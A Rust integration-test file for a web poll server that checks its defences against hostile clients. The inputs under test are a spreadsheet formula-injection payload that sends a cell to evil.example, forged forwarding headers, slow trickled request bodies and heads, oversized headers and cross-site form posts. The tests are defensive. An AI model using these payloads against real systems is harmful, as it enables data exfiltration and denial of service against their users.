//! What a hostile client can try against a public server, each answered:
//! formula cells in exports, forged forwarding headers, trickled bodies,
//! held connections, oversized heads, hidden results, foreign oEmbed URLs,
//! floods of unknown polls, and a no-JS form posted again and again.

mod support;

use std::io::Write;
use std::time::{Duration, Instant};
use support::{
    backends, eventually, first_event, key, read_until_closed, request, server, vote_json, voters,
    Backend, Server,
};

/// The status line and the rest of a raw answer.
fn status_of(raw: &[u8]) -> String {
    String::from_utf8_lossy(raw)
        .lines()
        .next()
        .unwrap_or("")
        .to_owned()
}

#[test]
fn csv_export_neutralises_formula_cells() {
    for b in backends("csv-formula") {
        b.add_poll(
            r#"{"id":"formulas","question":"Which?","mode":"multiple","max_choices":6,"options":[
                {"id":"link","label":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"},
                {"id":"plus","label":"+1+2"},
                {"id":"minus","label":"-3"},
                {"id":"at","label":"@SUM(A1:A9)"},
                {"id":"tab","label":"\tx"},
                {"id":"plain","label":"Plain, with a comma"}
            ]}"#,
        );
        let csv = b.cli(&["poll", "export", "formulas", "--csv"]).unwrap();
        let lines: Vec<&str> = csv.lines().collect();
        assert_eq!(lines[0], "option_id,label,votes,percent");
        assert!(
            lines[1]
                .starts_with(r#"link,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",0,"#),
            "{csv}"
        );
        assert!(lines[2].starts_with(r#"plus,"'+1+2",0,"#), "{csv}");
        assert!(lines[3].starts_with(r#"minus,"'-3",0,"#), "{csv}");
        assert!(lines[4].starts_with(r#"at,"'@SUM(A1:A9)",0,"#), "{csv}");
        assert!(lines[5].starts_with("tab,\"'\tx\",0,"), "{csv}");
        assert!(
            lines[6].starts_with(r#"plain,"Plain, with a comma",0,"#),
            "{csv}"
        );
    }
}

#[test]
fn every_forwarded_for_line_counts_as_one_list() {
    // The client writes a line of its own choosing; the trusted proxy adds
    // its own line with the address it saw. The client is that address.
    let b = Backend::sqlite("xff-lines");
    let s = Server::start(&b, &["--trusted-proxy", "127.0.0.1", "--rate-limit", "1"]);
    let mut statuses = std::collections::BTreeMap::new();
    for i in 0..40 {
        let forged = format!("10.0.0.{i}");
        let r = s.request(
            "POST",
            "/api/polls/overtime-hours/votes",
            &[
                ("content-type", "application/json"),
                ("x-forwarded-for", &forged),
                ("x-forwarded-for", "203.0.113.7"),
            ],
            vote_json(&["1-5"], &key(), "").as_bytes(),
        );
        *statuses.entry(r.status).or_insert(0) += 1;
    }
    // A burst of 10, then one a second: most of 40 are refused.
    assert!(
        statuses.get(&429).copied().unwrap_or(0) >= 20,
        "{statuses:?}"
    );
}

#[test]
fn a_body_has_a_deadline_not_a_gap() {
    let b = Backend::sqlite("body-deadline");
    let s = Server::start(&b, &["--rate-limit", "0", "--body-timeout", "1"]);
    let mut stream = s.connect();
    let started = Instant::now();
    write!(
        stream,
        "POST /api/polls/overtime-hours/votes HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 200\r\n\r\n"
    )
    .unwrap();
    // One byte every 100 ms: never a pause as long as the timeout.
    let mut writer = stream.try_clone().unwrap();
    let trickle = std::thread::spawn(move || {
        for _ in 0..150 {
            if writer.write_all(b" ").is_err() {
                return;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    });
    let (answer, _) = read_until_closed(&mut stream);
    let answer = String::from_utf8_lossy(&answer).into_owned();
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("\"body_timeout\""), "{answer}");
    assert!(started.elapsed() >= Duration::from_secs(1));
    drop(stream);
    trickle.join().unwrap();
    assert_eq!(voters(&s, "overtime-hours"), 581);
}

#[test]
fn a_huge_content_length_is_refused_at_once() {
    let b = Backend::sqlite("huge-length");
    // A body deadline far longer than the test: only an answer that does
    // not wait for the body passes.
    let s = Server::start(&b, &["--rate-limit", "0", "--body-timeout", "600"]);
    let mut stream = s.connect();
    write!(
        stream,
        "POST /api/polls/overtime-hours/votes HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000000000000\r\n\r\n{{\"choices\":"
    )
    .unwrap();
    let (answer, closed) = read_until_closed(&mut stream);
    let answer = String::from_utf8_lossy(&answer).into_owned();
    assert!(closed, "the server waited for the body: {answer}");
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("\"body_too_large\""), "{answer}");
}

#[test]
fn a_connection_that_never_finishes_its_head_is_closed() {
    let b = Backend::sqlite("slow-head");
    let s = Server::start(&b, &["--rate-limit", "0", "--header-timeout", "1"]);
    // Nothing at all.
    let mut silent = s.connect();
    let (_, closed) = read_until_closed(&mut silent);
    assert!(closed, "a connection that sent nothing was kept open");
    // A head trickled in a byte every 100 ms.
    let mut slow = s.connect();
    let mut writer = slow.try_clone().unwrap();
    let trickle = std::thread::spawn(move || {
        for byte in b"GET /api/polls/overtime-hours HTTP/1.1\r\nhost: x\r\nx-pad: "
            .iter()
            .chain(std::iter::repeat_n(&b'a', 150))
        {
            if writer.write_all(&[*byte]).is_err() {
                return;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    });
    let (got, closed) = read_until_closed(&mut slow);
    assert!(closed, "a head trickled in was waited for");
    assert!(
        !status_of(&got).contains(" 200 "),
        "{}",
        String::from_utf8_lossy(&got)
    );
    drop(slow);
    trickle.join().unwrap();
    // The server still answers.
    assert_eq!(s.get("/api/polls/overtime-hours").status, 200);
}

#[test]
fn an_idle_kept_alive_connection_is_closed() {
    let b = Backend::sqlite("idle");
    let s = Server::start(&b, &["--rate-limit", "0", "--header-timeout", "1"]);
    let mut stream = s.connect();
    write!(
        stream,
        "GET /api/polls/overtime-hours HTTP/1.1\r\nhost: x\r\n\r\n"
    )
    .unwrap();
    let (got, closed) = read_until_closed(&mut stream);
    assert!(closed, "an idle kept-alive connection stayed open");
    assert!(status_of(&got).starts_with("HTTP/1.1 200"), "{got:?}");
}

#[test]
fn connections_past_the_cap_are_closed_at_once() {
    let b = Backend::sqlite("cap");
    let s = Server::start(
        &b,
        &[
            "--rate-limit",
            "0",
            "--max-connections",
            "3",
            "--header-timeout",
            "60",
        ],
    );
    // Three kept-alive connections, each with an answer read (so each has
    // been accepted and holds its place).
    let mut held: Vec<_> = (0..3)
        .map(|_| {
            let mut c = s.connect();
            write!(c, "GET /nonexistent.txt HTTP/1.1\r\nhost: x\r\n\r\n").unwrap();
            let mut head = [0u8; 12];
            std::io::Read::read_exact(&mut c, &mut head).unwrap();
            assert_eq!(&head, b"HTTP/1.1 404");
            c
        })
        .collect();
    let mut over = s.connect();
    let (got, closed) = read_until_closed(&mut over);
    assert!(closed, "the connection over the cap was kept");
    assert!(got.is_empty(), "{}", String::from_utf8_lossy(&got));
    // A place freed is a place taken again.
    drop(held.pop());
    eventually(Duration::from_secs(10), "a freed place is reused", || {
        request(s.addr, "GET", "/api/polls/overtime-hours", &[], b"").is_ok_and(|r| r.status == 200)
    });
}

#[test]
fn an_oversized_request_head_is_refused() {
    let b = Backend::sqlite("big-head");
    let s = Server::start(&b, &["--rate-limit", "0", "--max-header-bytes", "4096"]);
    let pad = "a".repeat(6000);
    let r = s.request("GET", "/api/polls/overtime-hours", &[("x-pad", &pad)], b"");
    assert_eq!(r.status, 431);
    let pad = "a".repeat(3000);
    let r = s.request("GET", "/api/polls/overtime-hours", &[("x-pad", &pad)], b"");
    assert_eq!(r.status, 200);

    // The default cap is far below the 200 KB a client once got through.
    let s = Server::start(&Backend::sqlite("big-head-default"), &[]);
    let pad = "a".repeat(200 * 1024);
    let answer = request(
        s.addr,
        "GET",
        "/api/polls/overtime-hours",
        &[("x-pad", &pad)],
        b"",
    );
    // Refused with 431, or cut off before the whole head was read.
    if let Ok(r) = answer {
        assert_eq!(r.status, 431, "{}", r.body);
    }
}

#[test]
fn the_soft_open_files_limit_is_raised_to_the_hard_one() {
    use std::os::unix::process::CommandExt;
    let b = Backend::sqlite("nofile");
    let s = Server::spawn(&b, &[], &[], |cmd| {
        // SAFETY: only setrlimit between fork and exec.
        unsafe {
            cmd.pre_exec(|| {
                let mut limit = libc::rlimit {
                    rlim_cur: 0,
                    rlim_max: 0,
                };
                libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit);
                limit.rlim_cur = limit.rlim_max.min(256);
                libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
                Ok(())
            });
        }
    });
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", s.child.id())).unwrap();
    let line = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .unwrap();
    let numbers: Vec<&str> = line.split_whitespace().skip(3).take(2).collect();
    assert_eq!(numbers[0], numbers[1], "soft limit not raised: {line}");
}

/// Polls with each results policy, with starting numbers no page or answer
/// may show while the policy hides them.
const HIDDEN: [&str; 4] = [
    r#"{"id":"secret-never","question":"Never shown?","results":"never",
        "options":[{"id":"a","label":"A"},{"id":"b","label":"B"}],
        "counts":{"a":37,"b":41},"voters":78}"#,
    r#"{"id":"until-close","question":"Shown when closed?","results":"after_close",
        "options":[{"id":"a","label":"A"},{"id":"b","label":"B"}],
        "counts":{"a":37,"b":41},"voters":78}"#,
    r#"{"id":"was-closed","question":"Closed already?","results":"after_close",
        "closes_at":"2020-01-01T00:00:00Z",
        "options":[{"id":"a","label":"A"},{"id":"b","label":"B"}],
        "counts":{"a":37,"b":41},"voters":78}"#,
    r#"{"id":"after-vote","question":"Shown to voters?","results":"after_vote",
        "options":[{"id":"a","label":"A"},{"id":"b","label":"B"}],
        "counts":{"a":37,"b":41},"voters":78}"#,
];

fn shows_no_numbers(page: &str) {
    for n in ["37", "41", "78", "Total voters", "%"] {
        assert!(!page.contains(n), "{n} shown in {page}");
    }
}

#[test]
fn results_follow_the_polls_policy_everywhere() {
    for b in backends("visibility") {
        for poll in HIDDEN {
            b.add_poll(poll);
        }
        let s = Server::start_with_env(
            &b,
            &["--rate-limit", "0"],
            &[("READERPOLL_ADMIN_TOKEN", "admin-token")],
        );

        // never: no numbers on any public surface, before or after a vote.
        let read = s.get("/api/polls/secret-never");
        assert_eq!(read.status, 200);
        assert!(read.json().get("tally").is_none(), "{}", read.body);
        assert_eq!(read.json()["open"], true);
        let vote = s.vote("secret-never", &vote_json(&["a"], &key(), "reader-n"));
        assert_eq!(vote.status, 201, "{}", vote.body);
        assert_eq!(
            vote.json()["tally"],
            serde_json::json!({"counts": {}, "voters": 0})
        );
        let read = s.get("/api/polls/secret-never?voter=reader-n");
        assert!(read.json().get("tally").is_none(), "{}", read.body);
        assert!(first_event(&s, "/api/polls/secret-never/events")
            .get("tally")
            .is_none());
        let page = s.get("/polls/secret-never/embed");
        assert_eq!(page.status, 200);
        assert!(page.body.contains("Never shown?"));
        shows_no_numbers(&page.body);
        // The admin API and the export keep the full numbers.
        let list = s
            .request(
                "GET",
                "/api/admin/polls",
                &[("authorization", "Bearer admin-token")],
                b"",
            )
            .json();
        let never = list["polls"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["id"] == "secret-never")
            .unwrap()
            .clone();
        assert_eq!(never["voters"], 79);
        let csv = b.cli(&["poll", "export", "secret-never", "--csv"]).unwrap();
        assert!(csv.contains("a,A,38,"), "{csv}");

        // after_close: hidden while open, shown once closed.
        let read = s.get("/api/polls/until-close");
        assert!(read.json().get("tally").is_none(), "{}", read.body);
        assert!(first_event(&s, "/api/polls/until-close/events")
            .get("tally")
            .is_none());
        shows_no_numbers(&s.get("/polls/until-close/embed").body);
        let read = s.get("/api/polls/was-closed").json();
        assert_eq!(read["tally"]["voters"], 78, "{read}");
        assert!(s
            .get("/polls/was-closed/embed")
            .body
            .contains("Total voters: 78"));
        let closed = s.request(
            "POST",
            "/api/admin/polls/until-close/close",
            &[("authorization", "Bearer admin-token")],
            b"",
        );
        assert_eq!(closed.status, 200);
        assert_eq!(
            s.get("/api/polls/until-close").json()["tally"]["voters"],
            78
        );
        assert_eq!(
            first_event(&s, "/api/polls/until-close/events")["tally"]["voters"],
            78
        );

        // after_vote: only to the voter token that voted.
        assert!(s.get("/api/polls/after-vote").json().get("tally").is_none());
        let vote = s.vote("after-vote", &vote_json(&["b"], &key(), "reader-v"));
        assert_eq!(vote.status, 201, "{}", vote.body);
        assert_eq!(vote.json()["tally"]["counts"]["b"], 42);
        let mine = s.get("/api/polls/after-vote?voter=reader-v").json();
        assert_eq!(mine["tally"]["voters"], 79, "{mine}");
        assert_eq!(
            first_event(&s, "/api/polls/after-vote/events?voter=reader-v")["tally"]["voters"],
            79
        );
        for other in [
            "?voter=reader-w",
            "",
            "?voter=bad%20token",
            "?voter=%ff%fe",
            "?voter=%zz&&=",
        ] {
            let read = s.get(&format!("/api/polls/after-vote{other}"));
            assert_eq!(read.status, 200);
            assert!(read.json().get("tally").is_none(), "{other}: {}", read.body);
        }
        assert!(
            first_event(&s, "/api/polls/after-vote/events?voter=reader-w")
                .get("tally")
                .is_none()
        );
    }
}

#[test]
fn the_no_js_page_shows_after_vote_results_to_its_voter() {
    for b in backends("form-after-vote") {
        b.add_poll(HIDDEN[3]);
        let s = server(&b);
        let page = s.get("/polls/after-vote/embed");
        shows_no_numbers(&page.body);
        let cookie = page
            .header("set-cookie")
            .and_then(|c| c.split(';').next())
            .unwrap()
            .to_owned();
        let r = s.request(
            "POST",
            "/polls/after-vote/vote-form",
            &[
                ("content-type", "application/x-www-form-urlencoded"),
                ("cookie", &cookie),
            ],
            b"choice=a",
        );
        assert_eq!(r.status, 303);
        let after = s.request(
            "GET",
            r.header("location").unwrap(),
            &[("cookie", &cookie)],
            b"",
        );
        assert!(after.body.contains("Total voters: 79"), "{}", after.body);
        // Another browser still sees none.
        shows_no_numbers(&s.get("/polls/after-vote/embed").body);
    }
}

#[test]
fn oembed_describes_only_this_servers_polls() {
    for b in backends("oembed-origin") {
        let s = server(&b);
        let evil = s.get("/oembed?url=https%3A%2F%2Fevil.example%2Fpolls%2Fovertime-hours");
        assert_eq!((evil.status, evil.code().as_str()), (404, "not_a_poll_url"));
        // Without --public-url the server's own origin is its address.
        let own = format!("http://{}/polls/overtime-hours", s.addr);
        let r = s.get(&format!(
            "/oembed?url={}",
            own.replace(':', "%3A").replace('/', "%2F")
        ));
        assert_eq!(r.status, 200, "{}", r.body);
        let html = r.json()["html"].as_str().unwrap().to_owned();
        assert!(
            html.starts_with(&format!("<iframe src=\"{own}/embed\"")),
            "{html}"
        );

        let s = Server::start(&b, &["--public-url", "https://polls.example"]);
        let evil = s.get("/oembed?url=https%3A%2F%2Fevil.example%2Fpolls%2Fovertime-hours");
        assert_eq!(evil.status, 404);
        let own = s.get("/oembed?url=http%3A%2F%2Fpolls.example%2Fpolls%2Fovertime-hours");
        assert_eq!(own.status, 404, "another scheme is another origin");
        let r = s.get("/oembed?url=https%3A%2F%2Fpolls.example%2Fpolls%2Fovertime-hours");
        assert_eq!(r.status, 200, "{}", r.body);
        assert!(r.json()["html"]
            .as_str()
            .unwrap()
            .starts_with("<iframe src=\"https://polls.example/polls/overtime-hours/embed\""));
    }
    support::refuses_to_serve(&["--public-url", "polls.example"], "--public-url");
}

#[test]
fn reads_of_unknown_polls_open_no_new_connections() {
    // The database's folder is moved away under the running server: the
    // connections it has keep working, a new one cannot be opened. Reads
    // of unknown polls must be answered from the connections already open.
    let b = Backend::sqlite("misses");
    let s = server(&b);
    let dir = b.sqlite_path().unwrap().parent().unwrap().to_owned();
    let moved = dir.with_extension("moved");
    std::fs::rename(&dir, &moved).unwrap();
    for i in 0..50 {
        let r = s.get(&format!("/api/polls/no-such-poll-{i}"));
        assert_eq!(
            (r.status, r.code().as_str()),
            (404, "unknown_poll"),
            "{}",
            r.body
        );
    }
    assert_eq!(s.get("/api/polls/overtime-hours").status, 200);
    let r = s.vote("overtime-hours", &vote_json(&["1-5"], &key(), ""));
    assert_eq!(r.status, 201, "{}", r.body);
    let _ = std::fs::rename(&moved, &dir);
}

#[test]
fn a_poll_added_after_a_miss_is_seen_soon() {
    for b in backends("miss-then-add") {
        let s = server(&b);
        assert_eq!(s.get("/api/polls/late-poll").status, 404);
        b.add_poll(
            r#"{"id":"late-poll","question":"Late?","options":[{"id":"a","label":"A"},{"id":"b","label":"B"}]}"#,
        );
        eventually(Duration::from_secs(10), "the new poll is served", || {
            s.get("/api/polls/late-poll").status == 200
        });
    }
}

/// The `readerpoll_voter=…` pair of a `Set-Cookie`, and its attributes.
fn voter_cookie(r: &support::Reply) -> (String, String) {
    let set = r.header("set-cookie").expect("a voter cookie").to_owned();
    let pair = set.split(';').next().unwrap().trim().to_owned();
    assert!(pair.starts_with("readerpoll_voter="), "{set}");
    (pair, set)
}

#[test]
fn the_no_js_form_counts_one_browser_once() {
    for b in backends("form-cookie") {
        let s = server(&b);
        let page = s.get("/polls/overtime-hours/embed");
        let (cookie, set) = voter_cookie(&page);
        assert!(set.contains("HttpOnly"), "{set}");
        assert!(set.contains("SameSite=Lax"), "{set}");
        assert!(!set.contains("Secure"), "plain http here: {set}");
        let post = |body: String| {
            s.request(
                "POST",
                "/polls/overtime-hours/vote-form",
                &[
                    ("content-type", "application/x-www-form-urlencoded"),
                    ("cookie", &cookie),
                ],
                body.as_bytes(),
            )
        };
        let first = post(format!("choice=16-plus&key={}", key()));
        assert_eq!(first.status, 303);
        assert_eq!(
            first.header("location"),
            Some("/polls/overtime-hours/embed?voted=1")
        );
        for _ in 0..5 {
            let again = post(format!("choice=16-plus&key={}", key()));
            assert_eq!(
                again.header("location"),
                Some("/polls/overtime-hours/embed?refused=1")
            );
        }
        assert_eq!(voters(&s, "overtime-hours"), 582);
        // A browser posting without the page's cookie gets one with the answer.
        let fresh = s.request(
            "POST",
            "/polls/overtime-hours/vote-form",
            &[("content-type", "application/x-www-form-urlencoded")],
            b"choice=1-5",
        );
        assert_eq!(fresh.status, 303);
        let (other, _) = voter_cookie(&fresh);
        assert_ne!(other, cookie);
        assert_eq!(voters(&s, "overtime-hours"), 583);
    }
    let s = Server::start(
        &Backend::sqlite("form-cookie-https"),
        &["--public-url", "https://polls.example"],
    );
    // Over https the page is mostly framed by a news site (oEmbed): the
    // cookie must reach a cross-site iframe, in a jar of that site's own.
    let (_, set) = voter_cookie(&s.get("/polls/overtime-hours/embed"));
    assert!(
        set.ends_with("; HttpOnly; SameSite=None; Secure; Partitioned"),
        "{set}"
    );
}

#[test]
fn the_no_js_form_refuses_posts_from_other_sites() {
    for b in backends("form-csrf") {
        // Only the form's own page and the sites the operator named may post
        // the form (the reader's cookie goes with the post).
        let s = Server::start(&b, &["--allow-origin", "https://news.example"]);
        let cookie = voter_cookie(&s.get("/polls/overtime-hours/embed")).0;
        let post = |headers: &[(&str, &str)]| {
            let mut all = vec![
                ("content-type", "application/x-www-form-urlencoded"),
                ("cookie", cookie.as_str()),
            ];
            all.extend_from_slice(headers);
            let r = s.request(
                "POST",
                "/polls/overtime-hours/vote-form",
                &all,
                format!("choice=16-plus&key={}", key()).as_bytes(),
            );
            if r.status == 303 {
                (r.status, String::new())
            } else {
                (r.status, r.code())
            }
        };
        let refused = (403, "cross_site_form".to_owned());
        assert_eq!(post(&[("origin", "https://evil.example")]), refused);
        assert_eq!(post(&[("sec-fetch-site", "cross-site")]), refused);
        assert_eq!(post(&[("sec-fetch-site", "same-site")]), refused);
        assert_eq!(
            post(&[
                ("sec-fetch-site", "cross-site"),
                ("origin", &format!("http://{}", s.addr)),
            ]),
            refused
        );
        assert_eq!(post(&[("origin", "null")]), refused);
        assert_eq!(voters(&s, "overtime-hours"), 581, "nothing counted");
        // The page's own post: its origin is the address it was reached at.
        let own = format!("http://{}", s.addr);
        assert_eq!(
            post(&[("origin", &own), ("sec-fetch-site", "same-origin")]),
            (303, String::new())
        );
        assert_eq!(voters(&s, "overtime-hours"), 582);
        // A named site's article, with the fallback form in it, posting
        // for another reader (without the cookie of the first).
        let r = s.request(
            "POST",
            "/polls/overtime-hours/vote-form",
            &[
                ("content-type", "application/x-www-form-urlencoded"),
                ("origin", "https://news.example"),
                ("sec-fetch-site", "cross-site"),
            ],
            b"choice=1-5",
        );
        assert_eq!(r.status, 303, "{}", r.body);
        assert_eq!(voters(&s, "overtime-hours"), 583);
    }
    let s = Server::start(
        &Backend::sqlite("form-csrf-public"),
        &["--public-url", "https://polls.example"],
    );
    let post = |origin: &str| {
        s.request(
            "POST",
            "/polls/overtime-hours/vote-form",
            &[
                ("content-type", "application/x-www-form-urlencoded"),
                ("origin", origin),
            ],
            b"choice=1-5",
        )
        .status
    };
    assert_eq!(post("https://evil.example"), 403);
    assert_eq!(post("http://polls.example"), 403, "another scheme");
    // With --public-url, the Host a request was sent to is not an origin
    // of its own.
    assert_eq!(post(&format!("http://{}", s.addr)), 403);
    assert_eq!(post("https://polls.example"), 303);
}
